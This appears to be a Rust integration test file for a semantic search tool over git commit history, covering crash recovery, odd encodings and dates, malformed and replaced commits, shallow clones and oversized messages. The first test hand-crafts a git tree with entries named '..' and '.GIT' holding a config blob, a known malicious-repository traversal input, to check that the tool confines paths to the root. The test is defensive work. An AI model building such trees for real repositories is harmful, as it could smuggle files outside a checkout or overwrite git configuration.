    assert!(import.wait().unwrap().success());
    tree
}

/// A tree made by hand may hold entries named `..` or `.git/...`, which no
/// checkout has: a commit touching them names no such path, where its
/// record said `..` and the pipeline's reader (vg-format) refused it.
#[test]
fn a_crafted_tree_with_dot_dot_names_no_path_outside_the_root() {
    let tree = repository();
    let blob_path = tree.config_home.path().join("blob");
    std::fs::write(&blob_path, "retry the evil tree\n").unwrap();
    let blob = git(&tree, &["hash-object", "-w", blob_path.to_str().unwrap()]);
    let raw: Vec<u8> = (0..40).step_by(2).map(|i| u8::from_str_radix(&blob[i..i + 2], 16).unwrap()).collect();
    let inner = [b"100644 config\0".as_slice(), &raw].concat();
    let inner_path = tree.config_home.path().join("inner");
    std::fs::write(&inner_path, &inner).unwrap();
    let dot_git = git(&tree, &["hash-object", "-t", "tree", "-w", "--literally", inner_path.to_str().unwrap()]);
    let dot_git_raw: Vec<u8> =
        (0..40).step_by(2).map(|i| u8::from_str_radix(&dot_git[i..i + 2], 16).unwrap()).collect();
    let entries =
        [b"100644 ..\0".as_slice(), &raw, b"40000 .GIT\0", &dot_git_raw, b"100644 plain.txt\0", &raw].concat();
    let top_path = tree.config_home.path().join("top");
    std::fs::write(&top_path, &entries).unwrap();
    let top = git(&tree, &["hash-object", "-t", "tree", "-w", "--literally", top_path.to_str().unwrap()]);
    let sha = git(&tree, &["commit-tree", &top, "-m", "Evil tree of retries", "-p", "HEAD"]);
    git(&tree, &["update-ref", "HEAD", &sha]);
    let o = log(&tree, &["--with-diff", "evil tree of retries"]);
    assert_code(&o, 0);
    let recs = records(&o);
    let top = of_type(&recs, "commit").into_iter().find(|c| c["sha"] == sha.as_str()).cloned().unwrap();
    crate::contract::check(&top);
    let paths: Vec<&str> = top["paths"].as_array().unwrap().iter().map(|p| p.as_str().unwrap()).collect();
    assert!(paths.contains(&"plain.txt") && !paths.iter().any(|p| p.contains("..") || p.contains(".GIT")), "{top}");
    let o = run(tree.cmd("vecgrep", "").args(["--log", "--threshold", "-1", "evil tree of retries"]));
    assert_code(&o, 0);
    assert!(stdout(&o).contains("Evil tree of retries"), "{}{}", stdout(&o), stderr(&o));
}

/// A model asked for that cannot be loaded leaves the commit log as it
/// was: it was emptied for the new model first, then the run failed, and
/// going back meant embedding the whole history again.
#[test]
fn a_model_that_cannot_be_loaded_leaves_the_commit_log_as_it_was() {
    let tree = repository();
    assert_code(&log(&tree, &["retry uploads"]), 0);
    let before = log_counts(&tree);
    assert!(before.0 > 0, "{before:?}");
    tree.project_config("embedder_model = \"vecgrep-code-minilm-l6\"\n");
    let empty = tempfile::tempdir().unwrap();
    let o = run(tree.cmd("vg-log", "").env("VECGREP_MODEL_DIR", empty.path()).args(["retry uploads"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("cannot load the embedding model for the commit log"), "{}", stderr(&o));
    assert_eq!(log_counts(&tree), before, "the log was emptied for a model that never loaded");
    tree.project_config("");
    let o = log(&tree, &["--no-index", "retry uploads"]);
    assert_code(&o, 0);
    assert!(subjects(&records(&o)).contains(&"Retry failed uploads with exponential backoff".to_string()));
    // The same from the command line, vg-log's and the porcelain's: the
    // flags were unknown to vg-log, and `vecgrep --log` refused them as
    // doing nothing.
    let o = run(tree.cmd("vg-log", "").env("VECGREP_MODEL_DIR", empty.path()).args([
        "--embedder-model",
        "vecgrep-code-minilm-l6",
        "retry uploads",
    ]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("cannot load the embedding model for the commit log"), "{}", stderr(&o));
    let unreachable = ["--embedder-source", "remote", "--embedder-url", "http://127.0.0.1:9/v1/embeddings"];
    let o = run(tree.cmd("vecgrep", "").arg("--log").args(unreachable).arg("retry uploads"));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("embedding server at http://127.0.0.1:9/v1/embeddings"), "{}", stderr(&o));
    assert_eq!(log_counts(&tree), before);
    // Words alone need no vectors of the model named.
    let o = log(&tree, &["--no-index", "--mode", "lexical", "--embedder-model", "vecgrep-code-minilm-l6", "retry"]);
    assert_code(&o, 0);
}

fn log_counts(tree: &Tree) -> (u64, u64) {
    try_log_counts(tree).expect("vg-index --stats reports the commit log")
}

/// The commit log's counts as a second process reads them while a run
/// writes; None while there is no index to read yet.
fn try_log_counts(tree: &Tree) -> Option<(u64, u64)> {
    let o = run(tree.cmd("vg-index", "").args(["--stats", "--json"]));
    let stats = records(&o);
    let first = stats.first().filter(|_| o.status.success())?;
    Some((first["commits"].as_u64()?, first["commit_pieces"].as_u64()?))
}

/// Run `vg-log --with-diff` and SIGKILL it once `more` commits beyond
/// those stored before have been stored (0: as soon as it is running);
/// returns how many it had stored when killed, as last read.
fn kill_log_after_commits(tree: &Tree, more: u64) -> u64 {
    let before = try_log_counts(tree).map_or(0, |c| c.0);
    let mut child = tree
        .cmd("vg-log", "")
        .args(["--with-diff", "step"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    let mut stored = 0;
    while more > 0 && stored < more && std::time::Instant::now() < deadline {
        if child.try_wait().unwrap().is_some() {
            break;
        }
        stored = try_log_counts(tree).map_or(0, |c| c.0.saturating_sub(before));
    }
    let _ = child.kill(); // SIGKILL; an error only if it has already been reaped
    child.wait().unwrap();
    stored
}

/// Ctrl-C (SIGINT) while the history is stored stops the run after the
/// batch in hand, says how far it got, and exits 130; what it stored is
/// kept and the next run goes on (audit 245: it ended at once, saying
/// nothing).
#[test]
fn an_interrupted_log_run_says_what_it_kept() {
    let tree = long_history(300);
    let mut child = tree
        .cmd("vg-log", "")
        .args(["--with-diff", "step"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    while try_log_counts(&tree).is_none_or(|c| c.0 == 0) && std::time::Instant::now() < deadline {
        assert!(child.try_wait().unwrap().is_none(), "the run ended before a commit was seen stored");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(Command::new("kill").args(["-INT", &child.id().to_string()]).status().unwrap().success());
    let o = child.wait_with_output().unwrap();
    assert_eq!(o.status.code(), Some(130), "{}", stderr(&o));
    assert!(o.stdout.is_empty(), "no search after an interrupt");
    let (stored, _) = log_counts(&tree);
    assert!(stored > 0 && stored < 300, "{stored}");
    let said = format!(
        "vg-log: interrupted after {stored} of 300 commits: what they added is kept, and the next run stores the rest\n"
    );
    assert_eq!(stderr(&o), said);
    let o = log(&tree, &["--with-diff", "-k", "1", "the step that adds 299"]);
    assert_code(&o, 0);
    assert_eq!(log_counts(&tree).0, 300);
}

/// `-k` above the 100 candidates each side gives: words alone stopped at
/// 100, hybrid at about 200, while semantic gave all.
#[test]
fn every_mode_returns_the_k_commits_asked_for() {
    let tree = long_history(150);
    for mode in ["lexical", "hybrid", "semantic"] {
        let o = log(&tree, &["--mode", mode, "-k", "150", "--threshold", "-1", "step input"]);
        assert_code(&o, 0);
        assert_eq!(records(&o).len(), 150, "{mode}: {}", stderr(&o));
    }
}

#[test]
fn kill_9_while_indexing_the_history_loses_nothing_the_next_run_keeps() {
    let tree = long_history(300);
    // At once, after the first commits are written, and twice mid-way.
    for more in [0, 1, 60, 60] {
        let stored = kill_log_after_commits(&tree, more);
        assert!(stored >= more, "the run was killed after {stored} commits, not {more}");
        let (commits, pieces) = log_counts(&tree);
        assert_eq!(pieces, 2 * commits, "after a kill {more} commits in, every stored commit is whole");
    }
    assert!(log_counts(&tree).0 < 300, "the kills came before the run ended");
    let o = log(&tree, &["--with-diff", "-k", "1", "the step that adds 299"]);
    assert_code(&o, 0);
    assert_eq!(log_counts(&tree), (300, 600), "the resumed log holds every commit once: {}", stderr(&o));
    assert_eq!(subjects(&records(&o)), ["Make step 299 add 299 to its input"]);
    let again = log(&tree, &["--with-diff", "step"]);
    assert_eq!(stderr(&again), "", "nothing left to index");
    let verified = records(&run(tree.cmd("vg-index", "").args(["--verify", "--json"])));
    assert_eq!(verified[0]["ok"], true);
}

#[test]
fn a_root_below_the_repository_sees_its_own_commits_with_its_own_paths() {
    let tree = git_repo();
    tree.write("api/src/retry.py", "def retry(send):\n    return send()\n");
    commit_all(&tree, "Retry requests in the api");
    tree.write("web/retry.js", "export const retry = (send) => send();\n");
    commit_all(&tree, "Retry requests in the web client");
    std::fs::create_dir(tree.path().join("api/.vecgrep")).unwrap();
    let o = run(tree.cmd("vg-log", "api").args(["--threshold", "-1", "retry requests"]));
    assert_code(&o, 0);
    let recs = records(&o);
    let commits = of_type(&recs, "commit");
    assert_eq!(commits.len(), 1, "{recs:?}");
    assert_eq!(commits[0]["subject"], "Retry requests in the api");
    assert_eq!(commits[0]["paths"], serde_json::json!(["src/retry.py"]));
    assert_eq!(commits[0]["root"], tree.path().join("api").to_string_lossy().as_ref());
}

/// A name may hold a newline: it is one path in the record, in `--files -0`
/// and as a filter, not two that do not exist.
#[cfg(unix)]
#[test]
fn a_file_name_with_a_newline_is_one_path() {
    let tree = git_repo();
    let name = "notes/retry\nplan.txt";
    tree.write(name, "Retry failed uploads three times.\n");
    tree.write("src/other.py", "def other():\n    return 1\n");
    commit_all(&tree, "Plan how uploads are retried");
    let o = run(tree.cmd("vg-log", ".").args(["--threshold", "-1", "-k", "1", "retry plan"]));
    assert_code(&o, 0);
    let commits = of_type(&records(&o), "commit").into_iter().cloned().collect::<Vec<_>>();
    assert_eq!(commits[0]["paths"], serde_json::json!([name, "src/other.py"]), "{commits:?}");
    let o = run(tree.cmd("vecgrep", ".").args(["--log", "--files", "-0", "--threshold", "-1", "retry plan"]));
    assert_code(&o, 0);
    assert_eq!(stdout(&o), format!("{name}\0src/other.py\0"));
    // As a filter, the name finds its commit and its pieces find nothing.
    let o = run(tree.cmd("vg-log", ".").args(["--threshold", "-1", "retry plan", name]));
    assert_code(&o, 0);
    let o = run(tree.cmd("vg-log", ".").args(["--threshold", "-1", "retry plan", "notes/retry"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("'notes/retry': no such file or directory, and no commit"), "{}", stderr(&o));
}

#[test]
fn a_path_the_history_knew_is_a_filter_after_it_is_gone() {
    let tree = repository();
    git(&tree, &["rm", "-q", "-r", "docs"]);
    git(&tree, &["commit", "-q", "-m", "Drop the docs"]);
    assert!(!tree.path().join("docs").exists());
    let o = log(&tree, &["configuration", "docs/config.md"]);
    assert_code(&o, 0);
    let mut found = subjects(&records(&o));
    found.sort();
    assert_eq!(found, ["Document the configuration file format", "Drop the docs"], "both commits that touched it");
    let o = log(&tree, &["configuration", "../elsewhere"]);
    assert_code(&o, 2);
    assert!(stderr(&o).contains("outside"), "{}", stderr(&o));
}

/// A PATH neither on disk nor in the history is a typo, said as rg says a
/// missing PATH: git's log found nothing for it in silence, exit 1.
#[test]
fn a_path_neither_on_disk_nor_in_the_history_is_an_error() {
    let tree = repository();
    let o = log(&tree, &["configuration", "docz"]);
    assert_code(&o, 2);
    assert_eq!(
        stderr(&o).lines().last(),
        Some("vg-log: 'docz': no such file or directory, and no commit searched touched it")
    );
    let o = log(&tree, &["configuration", "docs", "src/nosuch.py"]);
    assert_code(&o, 2);
    assert!(!subjects(&records(&o)).is_empty(), "what the other PATH finds is still printed");
    assert!(stderr(&o).contains("'src/nosuch.py'") && !stderr(&o).contains("'docs'"), "{}", stderr(&o));
    // One that cannot be looked at is no typo: its cause, after the path clipped.
    let long = format!("{}/{}", "x".repeat(300), "y".repeat(4500));
    let o = log(&tree, &["configuration", &long]);
    assert_code(&o, 2);
    assert!(stderr(&o).ends_with("File name too long (os error 36)\n") && stderr(&o).len() < 1000, "{}", stderr(&o));
}

#[test]
fn a_commit_write_the_disk_refuses_ends_the_run_with_why_and_the_next_run_completes_it() {
    let tree = long_history(300);
    // 1 MiB: past the index's tables, short of the 300 commits' vectors.
    let o = run(&mut with_file_size_limit(tree.cmd("vg-log", "").args(["--with-diff", "step"]), 1024));
    assert_code(&o, 2);
    let err = stderr(&o);
    assert_eq!(err.trim_end().lines().count(), 1, "one line: {err}");
    assert!(err.starts_with("vg-log: ") && err.contains("index.db"), "names the tool and the index: {err}");
    assert!(err.contains("File too large"), "says the system's reason: {err}");
    let (commits, pieces) = log_counts(&tree);
    assert!(0 < commits && commits < 300, "the limit came after the first commits and before the last: {commits}");
    assert_eq!(pieces, 2 * commits, "each stored commit is whole");
    let o = log(&tree, &["--with-diff", "-k", "1", "the step that adds 299"]);
    assert_code(&o, 0);
    assert_eq!(log_counts(&tree), (300, 600), "with room again the log completes: {}", stderr(&o));
}

#[test]
fn a_commit_in_another_encoding_or_with_an_odd_date_is_shown_as_it_was_written() {
    let tree = repository();
    // Made by hand as git writes them with i18n.commitEncoding = ISO-8859-1,
    // one dated past the year 9999 with an offset `±HH:MM` cannot write.
    let head = git(&tree, &["rev-parse", "HEAD"]);
    let tree_id = git(&tree, &["rev-parse", "HEAD^{tree}"]);
    let mut object = format!(
        "tree {tree_id}\nparent {head}\nauthor Andr\u{e9} <andre@example.org> 253402300800 +12000\n\
         committer Andr\u{e9} <andre@example.org> 253402300800 +12000\nencoding ISO-8859-1\n\n"
    )
    .replace('\u{e9}', "\u{1}");
    object.push_str("Caf\u{1} cr\u{2}me: cache the rendered templates for longer\n");
    // é and è in Latin-1.
    let bytes: Vec<u8> = object
        .bytes()
        .map(|b| match b {
            1 => 0xe9,
            2 => 0xe8,
            b => b,
        })
        .collect();
    let path = tree.config_home.path().join("commit");
    std::fs::write(&path, &bytes).unwrap();
    let sha = git(&tree, &["hash-object", "-t", "commit", "-w", "--literally", path.to_str().unwrap()]);
    git(&tree, &["update-ref", "HEAD", &sha]);
    let o = log(&tree, &["--author", "André", "templates cache"]);
    assert_code(&o, 0);
    let recs = records(&o);
    let top = of_type(&recs, "commit")[0];
    crate::contract::check(top);
    assert_eq!(top["sha"], sha.as_str());
    assert_eq!(top["subject"], "Café crème: cache the rendered templates for longer");
    assert_eq!(top["author"], "André");
    assert_eq!(
        (top["date"].as_str(), top["time"].as_i64()),
        (Some("+10000-01-01T00:00:00+00:00"), Some(253_402_300_800))
    );
}

/// A message that begins with blank lines has its first line that is not
/// blank as its subject, as `git log --format=%s` shows it; it was "".
#[test]
fn a_message_beginning_with_blank_lines_has_its_first_words_as_subject() {
    let tree = repository();
    let head = git(&tree, &["rev-parse", "HEAD"]);
    let tree_id = git(&tree, &["rev-parse", "HEAD^{tree}"]);
    let object = format!(
        "tree {tree_id}\nparent {head}\nauthor A <a@example.org> 1715000000 +0000\n\
         committer A <a@example.org> 1715000000 +0000\n\n\n \t\n\n   Poll the kafka consumer in batches\n\nbody\n"
    );
    let path = tree.config_home.path().join("commit");
    std::fs::write(&path, object).unwrap();
    let sha = git(&tree, &["hash-object", "-t", "commit", "-w", path.to_str().unwrap()]);
    git(&tree, &["update-ref", "HEAD", &sha]);
    assert_eq!(git(&tree, &["log", "-1", "--format=%s"]), "Poll the kafka consumer in batches");
    let o = log(&tree, &["-k", "1", "kafka consumer batches"]);
    let recs = records(&o);
    let top = of_type(&recs, "commit")[0];
    assert_eq!(
        (top["sha"].as_str(), top["subject"].as_str()),
        (Some(sha.as_str()), Some("Poll the kafka consumer in batches"))
    );
    // A log an older vg-log read (no reader recorded, the subject empty)
    // has that commit read again, once.
    let db = rusqlite::Connection::open(tree.path().join(".vecgrep/index.db")).unwrap();
    db.execute("UPDATE commits SET subject = '' WHERE sha = ?1", [&sha]).unwrap();
    db.execute("DELETE FROM meta WHERE key = 'log_reader'", []).unwrap();
    drop(db);
    let o = log(&tree, &["-k", "1", "kafka consumer batches"]);
    assert_eq!(of_type(&records(&o), "commit")[0]["subject"], "Poll the kafka consumer in batches", "{}", stderr(&o));
}

/// A commit git reads another in place of (`git replace`), set or removed
/// after the log and a revision's index were made: both show what git
/// shows now (both kept the commit as first read, found by its sha).
#[test]
fn a_replaced_commit_is_read_again_in_the_log_and_as_a_revision() {
    let tree = repository();
    let first = git(&tree, &["rev-list", "--max-parents=0", "HEAD"]);
    let subject_of = |o: &std::process::Output| {
        let recs = records(o);
        let c = of_type(&recs, "commit").into_iter().find(|c| c["sha"] == first.as_str()).cloned();
        c.map(|c| c["subject"].as_str().unwrap().to_string())
    };
    let was = subject_of(&log(&tree, &["-k", "20", "x"])).expect("the first commit is in the log");
    let files_at = |rev: &str| {
        let o = run(tree.cmd("vg-query", "").args(["--rev", rev, "--threshold", "-1", "-k", "50", "x"]));
        let mut files: Vec<String> = records(&o).iter().map(|h| h["file"].as_str().unwrap().to_string()).collect();
        files.sort();
        files.dedup();
        files
    };
    let before = files_at(&first);
    git(&tree, &["checkout", "-q", "--orphan", "other"]);
    git(&tree, &["rm", "-q", "-r", "-f", "."]);
    tree.write("crypto/seal.py", "def seal(data, key):\n    \"\"\"Encrypt data with AES-GCM.\"\"\"\n");
    git(&tree, &["add", "-A"]);
    git(&tree, &["commit", "-q", "-m", "Encrypt data with AES"]);
    let other = git(&tree, &["rev-parse", "HEAD"]);
    git(&tree, &["checkout", "-q", "-f", "main"]);
    git(&tree, &["replace", &first, &other]);
    assert_eq!(subject_of(&log(&tree, &["-k", "20", "x"])).as_deref(), Some("Encrypt data with AES"));
    assert_eq!(files_at(&first), ["crypto/seal.py"]);
    git(&tree, &["replace", "-d", &first]);
    assert_eq!(subject_of(&log(&tree, &["-k", "20", "x"])), Some(was));
    assert_eq!(files_at(&first), before);
    // A commit of another branch, replaced while the log runs on main, is
    // read again once that branch is checked out (it was recorded as read).
    git(&tree, &["checkout", "-q", "-b", "feature"]);
    tree.write("src/tok.py", "def tokenize(text):\n    return text.split()\n");
    git(&tree, &["add", "-A"]);
    git(&tree, &["commit", "-q", "-m", "Add a tokenizer for the parser"]);
    let feature = git(&tree, &["rev-parse", "HEAD"]);
    log(&tree, &["-k", "1", "tokenizer"]);
    git(&tree, &["checkout", "-q", "main"]);
    let message = "Encrypt the session data";
    let instead =
        git(&tree, &["commit-tree", &format!("{feature}^{{tree}}"), "-p", &format!("{feature}~1"), "-m", message]);
    git(&tree, &["replace", &feature, &instead]);
    log(&tree, &["-k", "1", "x"]);
    git(&tree, &["checkout", "-q", "feature"]);
    let o = log(&tree, &["-k", "20", "x"]);
    let recs = records(&o);
    let c = of_type(&recs, "commit").into_iter().find(|c| c["sha"] == feature.as_str()).expect("the branch's commit");
    assert_eq!(c["subject"], message);
}

/// A commit whose author line gix's parser refuses (no `<email>`, as some
/// imported histories have) is read as git log reads it, and the history
/// before and after it is searched, where it stopped vg-log altogether.
#[test]
fn a_malformed_commit_does_not_stop_the_history() {
    let tree = repository();
    let head = git(&tree, &["rev-parse", "HEAD"]);
    let tree_id = git(&tree, &["rev-parse", "HEAD^{tree}"]);
    let object = format!(
        "tree {tree_id}\nparent {head}\nauthor Mallory mallory@example.org 1715000000 +0000\n\
         committer Mallory <mallory@example.org> 1715000000 +0000\n\nSpeed up template rendering with a cache\n"
    );
    let path = tree.config_home.path().join("commit");
    std::fs::write(&path, object).unwrap();
    let odd = git(&tree, &["hash-object", "-t", "commit", "-w", "--literally", path.to_str().unwrap()]);
    git(&tree, &["update-ref", "HEAD", &odd]);
    // At HEAD itself, where gix's walk cannot even begin.
    let o = log(&tree, &["-k", "10", "template rendering cache"]);
    assert_code(&o, 0);
    assert!(of_type(&records(&o), "commit").iter().any(|c| c["sha"] == odd.as_str()), "{}", stdout(&o));
    commit(
        &tree,
        &Change {
            author: "Ada Lovelace",
            date: "2024-06-10T10:00:00+00:00",
            subject: "Log each upload",
            files: &[("src/log.py", "import logging\n\nlog = logging.getLogger('upload')\n")],
        },
    );
    let o = log(&tree, &["-k", "10", "template rendering cache"]);
    assert_code(&o, 0);
    let recs = records(&o);
    let commits = of_type(&recs, "commit");
    assert_eq!(commits.len(), 6, "the whole history, the odd commit too: {}", stdout(&o));
    let found = commits.iter().find(|c| c["sha"] == odd.as_str()).unwrap();
    crate::contract::check(found);
    assert_eq!(found["subject"], "Speed up template rendering with a cache");
    assert_eq!(
        (found["author"].as_str(), found["time"].as_i64()),
        (Some("Mallory mallory@example.org"), Some(1_715_000_000))
    );
    assert_eq!(subjects(&recs).iter().filter(|s| s.as_str() == "Log each upload").count(), 1);

    // An author's date past what a second count holds: the committer's is
    // the commit's (it failed every run, the commit never stored).
    let head = git(&tree, &["rev-parse", "HEAD"]);
    let object = format!(
        "tree {tree_id}\nparent {head}\nauthor Eve <eve@example.org> 99999999999999999999 +0000\n\
         committer Eve <eve@example.org> 1716000000 +0000\n\nRetry a failed upload with backoff\n"
    );
    std::fs::write(&path, object).unwrap();
    let late = git(&tree, &["hash-object", "-t", "commit", "-w", "--literally", path.to_str().unwrap()]);
    git(&tree, &["update-ref", "HEAD", &late]);
    let o = log(&tree, &["-k", "10", "retry a failed upload"]);
    assert_code(&o, 0);
    let recs = records(&o);
    let found =
        of_type(&recs, "commit").into_iter().find(|c| c["sha"] == late.as_str()).expect("the commit is searched");
    assert_eq!((found["author"].as_str(), found["time"].as_i64()), (Some("Eve"), Some(1_716_000_000)));
}

#[test]
fn a_path_is_touched_as_git_log_counts_it_submodules_and_merges_included() {
    let lib = git_repo();
    for (n, text) in [(1, "first"), (2, "second")] {
        lib.write("lib.py", &format!("def release():\n    return '{text}'\n"));
        git(&lib, &["add", "-A"]);
        git(&lib, &["-c", "user.name=L", "-c", "user.email=l@x", "commit", "-q", "-m", &format!("release {n}")]);
    }
    let tree = repository();
    let who = ["-c", "user.name=Ada", "-c", "user.email=ada@example.org"];
    let lib_path = lib.path().to_string_lossy().into_owned();
    git(&tree, &["-c", "protocol.file.allow=always", "submodule", "add", "-q", &lib_path, "vendor/lib"]);
    git(&tree, &[&who[..], &["commit", "-q", "-m", "Add the release library as a submodule"]].concat());
    git(&tree, &["-C", "vendor/lib", "checkout", "-q", "HEAD~1"]);
    git(&tree, &["add", "vendor/lib"]);
    git(&tree, &[&who[..], &["commit", "-q", "-m", "Pin the release library to its first release"]].concat());
    // A file brought by a merged branch is the branch's change, not the merge's.
    git(&tree, &["checkout", "-q", "-b", "feature"]);
    tree.write("src/rate.py", "def limit(calls):\n    return calls[:10]\n");
    git(&tree, &["add", "src/rate.py"]);
    git(&tree, &[&who[..], &["commit", "-q", "-m", "Limit the rate of calls"]].concat());
    git(&tree, &["checkout", "-q", "main"]);
    git(&tree, &[&who[..], &["merge", "-q", "--no-ff", "-m", "Merge branch feature", "feature"]].concat());
    // A link's adding, new target and removal touch its path, as git log counts them.
    std::os::unix::fs::symlink("src/rate.py", tree.path().join("rate-link")).unwrap();
    git(&tree, &["add", "rate-link"]);
    git(&tree, &[&who[..], &["commit", "-q", "-m", "Link the rate limiter"]].concat());
    std::fs::remove_file(tree.path().join("rate-link")).unwrap();
    std::os::unix::fs::symlink("vendor/lib", tree.path().join("rate-link")).unwrap();
    git(&tree, &[&who[..], &["commit", "-q", "-a", "-m", "Point the link at the release library"]].concat());
    git(&tree, &["rm", "-q", "rate-link"]);
    git(&tree, &[&who[..], &["commit", "-q", "-m", "Remove the link"]].concat());
    for (path, want) in [
        ("vendor/lib", vec!["Pin the release library to its first release", "Add the release library as a submodule"]),
        ("src/rate.py", vec!["Limit the rate of calls"]),
        ("rate-link", vec!["Link the rate limiter", "Point the link at the release library", "Remove the link"]),
    ] {
        let o = log(&tree, &["release library rate", path]);
        let mut got = subjects(&records(&o));
        got.sort();
        let mut want: Vec<String> = want.into_iter().map(String::from).collect();
        want.sort();
        assert_eq!(got, want, "{path}: {}", stderr(&o));
    }
}

#[test]
fn a_shallow_clone_deepened_later_has_its_boundary_commits_read_again() {
    let origin = git_repo();
    for n in 1..=4 {
        origin.write(&format!("f{n}.txt"), &format!("file number {n}\n"));
        git(&origin, &["add", "-A"]);
        git(
            &origin,
            &["-c", "user.name=A", "-c", "user.email=a@x", "commit", "-q", "-m", &format!("Add file number {n}")],
        );
    }
    let clone = Tree::bare();
    let url = format!("file://{}", origin.path().display());
    git(&clone, &["clone", "-q", "--depth", "2", &url, "."]);
    // As `git log -- PATH` reads a shallow clone: its boundary commit, whose
    // parent is missing, added every file it holds (it touched none, and a
    // PATH never found the only commit of a `--depth 1` clone).
    let touched = |tree: &Tree, path: &str| {
        let o = log(tree, &["add a file", path]);
        let mut found = subjects(&records(&o));
        found.sort();
        let mut by_git: Vec<String> =
            git(tree, &["log", "--format=%s", "--", path]).lines().map(String::from).collect();
        by_git.sort();
        assert_eq!(found, by_git, "{path}");
        found
    };
    assert_eq!(touched(&clone, "f1.txt"), ["Add file number 3"], "the boundary holds f1");
    assert_eq!(touched(&clone, "f3.txt"), ["Add file number 3"]);
    // A log written before stored its boundary commit touching nothing and
    // recorded no `log_boundary`: that commit is read again.
    let db = rusqlite::Connection::open(clone.path().join(".vecgrep/index.db")).unwrap();
    db.execute_batch("UPDATE commits SET paths = '' WHERE subject = 'Add file number 3'; DELETE FROM meta WHERE key = 'log_boundary'")
        .unwrap();
    drop(db);
    assert_eq!(touched(&clone, "f1.txt"), ["Add file number 3"], "an old log's boundary read again");
    git(&clone, &["fetch", "-q", "--unshallow"]);
    assert_eq!(touched(&clone, "f1.txt"), ["Add file number 1"], "read again once its parent is there");
    assert_eq!(touched(&clone, "f3.txt"), ["Add file number 3"]);
}

/// PATHs are the history's places, as a revision's are: a link the
/// working tree has there now (to outside the project) is no link of the
/// history (it was skipped as outside, yet filtered by), and one gone,
/// named from outside the project, chooses the project by what is left of
/// it (the current directory's was taken: "not in a git repository").
#[test]
fn paths_are_the_historys_places_whatever_the_working_tree_has_there() {
    let tree = repository();
    git(&tree, &["rm", "-q", "-r", "docs"]);
    git(&tree, &["commit", "-q", "-m", "Drop the docs"]);
    let outside = Tree::bare();
    std::os::unix::fs::symlink(outside.path(), tree.path().join("docs")).unwrap();
    let o = log(&tree, &["configuration", "docs"]);
    assert_code(&o, 0);
    assert!(subjects(&records(&o)).contains(&"Document the configuration file format".to_string()), "{}", stderr(&o));
    std::fs::remove_file(tree.path().join("docs")).unwrap();
    let gone = tree.path().join("docs/config.md");
    let o = run(outside.cmd("vg-log", ".").args(["--threshold", "-1", "configuration"]).arg(&gone));
    assert_code(&o, 0);
    assert!(subjects(&records(&o)).contains(&"Drop the docs".to_string()), "{}", stderr(&o));
    // Beside a PATH on disk, which chooses the root (two gave none).
    let o = run(outside
        .cmd("vg-log", ".")
        .args(["--threshold", "-1", "configuration"])
        .arg(&gone)
        .arg(tree.path().join("src")));
    assert_code(&o, 0);
    // No commits yet: a PATH neither on disk nor in any commit is a typo too.
    let empty = git_repo();
    let o = run(empty.cmd("vg-log", ".").args(["--no-index", "anything", "nothere"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("'nothere': no such file or directory"), "{}", stderr(&o));
}

/// Audit 188: a commit message was read whole, and cost some 95 bytes of
/// memory a byte to store and embed: a 30 MB one (a pack of 89 KB, which
/// any clone may hold) took 2.9 GB. It is read to its first 64 KiB.
#[test]
fn a_huge_commit_message_is_read_to_its_first_64_kib() {
    let tree = repository();
    let message = format!(
        "Teach the flamingo feeder to wait for the flock\n\n{}Past the cut: zebracorn\n",
        "body line about flamingos and many more words here\n".repeat(40_000)
    );
    let file = tree.path().join("message.txt");
    std::fs::write(&file, &message).unwrap();
    tree.write("src/feeder.py", "def feed():\n    pass\n");
    git(&tree, &["add", "src/feeder.py"]);
    git(&tree, &["commit", "-q", "-F", file.to_str().unwrap()]);
    let o = log(&tree, &["--mode", "lexical", "-k", "1", "flamingo feeder"]);
    assert_code(&o, 0);
    let all = records(&o);
    assert_eq!(subjects(&all), ["Teach the flamingo feeder to wait for the flock"]);
    assert!(stdout(&o).len() < 64 * 1024, "{} bytes", stdout(&o).len());
    // What lies past the first 64 KiB was not read.
    assert_code(&log(&tree, &["--mode", "lexical", "zebracorn"]), 1);
}

/// Audit 188: a `.git` file naming a gitdir that is gone (a worktree or a
/// submodule moved) was "could not find a git repository" in the very
/// directory that has one; the pointer is named now.
#[test]
fn a_git_file_pointing_nowhere_is_named() {
    let tree = Tree::bare();
    tree.write("src/a.py", "x = 1\n");
    tree.write(".git", "gitdir: ../moved/.git/worktrees/a\n");
    let o = run(tree.cmd("vg-log", "").arg("anything"));
    assert_code(&o, 2);
    let err = stderr(&o);
    assert!(err.contains("/.git points at") && err.contains("moved/.git/worktrees/a, which does not exist"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
}
